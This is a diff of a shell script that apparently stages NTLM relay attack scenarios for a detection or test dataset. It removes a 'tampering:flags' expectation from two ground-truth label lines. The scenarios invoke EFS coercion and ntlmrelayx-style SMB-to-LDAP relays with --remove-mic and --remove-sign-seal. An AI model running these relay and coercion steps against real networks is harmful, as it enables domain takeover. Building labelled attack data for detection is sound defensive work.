@@ -77,7 +77,7 @@ scenario_relay_smb_ldap_sasl() {
   relay_on smb -t "ldap://$EVIL" "${LDAP_QUIET[@]}" --remove-mic
   efs_call
   sleep 3
-  truth "${RELAY[@]}" target=$DC expect=coercion:efsr expect=callback:smb expect=relay:smb-ldap expect=tampering:flags "$IMPACKET_TOOLS" \
+  truth "${RELAY[@]}" target=$DC expect=coercion:efsr expect=callback:smb expect=relay:smb-ldap "$IMPACKET_TOOLS" \
     notes="The bind is SASL GSS-SPNEGO with bare NTLMSSP tokens, as Windows clients and other relay tools send it; ntlmrelayx speaks Sicily to sicily.py on the attacker's own host, which is not on the mirror."
 }
 
@@ -102,7 +102,7 @@ scenario_relay_smb_ldap_flags() {
   relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-sign-seal
   efs_call
   sleep 3
-  truth "${RELAY[@]}" target=$DC expect=coercion:efsr expect=callback:smb expect=relay:smb-ldap expect=tampering:flags "$IMPACKET_TOOLS" \
+  truth "${RELAY[@]}" target=$DC expect=coercion:efsr expect=callback:smb expect=relay:smb-ldap "$IMPACKET_TOOLS" \
     notes="SIGN, ALWAYS_SIGN and SEAL are cleared in NEGOTIATE and AUTHENTICATE, a MIC was never there: flags tampered with, success."
 }
 
